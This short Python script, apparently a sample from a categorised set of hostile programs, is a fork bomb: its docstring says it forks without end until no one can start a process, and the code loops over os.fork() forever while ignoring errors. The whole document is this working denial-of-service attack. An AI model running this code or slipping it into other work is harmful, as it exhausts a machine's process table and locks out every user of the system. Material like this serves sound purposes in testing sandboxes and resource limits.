"""tries: fork without end, until no one can start a process any more
class: processes
"""
# %% added
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
